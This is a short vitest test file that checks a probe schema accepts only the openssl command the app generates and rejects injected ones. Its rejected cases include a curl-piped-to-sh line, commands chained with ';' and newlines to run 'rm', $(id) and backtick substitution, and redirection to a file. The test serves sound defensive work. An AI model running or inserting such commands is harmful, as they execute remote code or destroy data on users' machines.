// Commands in facts are shown with a button to copy them: a stranger's facts must not put another command there.
import { describe, expect, it } from 'vitest'
import { probeSchema } from '../../electron/contract/path.ts'
import { aProbe, aServerHello } from '../fixtures/facts.ts'

const withCommand = (opensslCommand: string) => probeSchema.safeParse({ ...aProbe('profile', aServerHello()), opensslCommand }).success

describe('the openssl command of a probe', () => {
  it('may be what our own gatherer writes', () => {
    expect(withCommand("openssl s_client -connect '[2001:db8::1]:443' -servername api.example.com -cipher A:B:@SECLEVEL=0")).toBe(true)
  })

  it.each([
    'curl https://example.test | sh',
    'openssl s_client -connect a:443; rm x',
    'openssl s_client -connect $(id)',
    'openssl s_client -connect `id`',
    'openssl s_client -connect a:443 > file',
    'openssl s_client -connect a:443\nrm x',
  ])('may not be %j', (command) => {
    expect(withCommand(command)).toBe(false)
  })
})
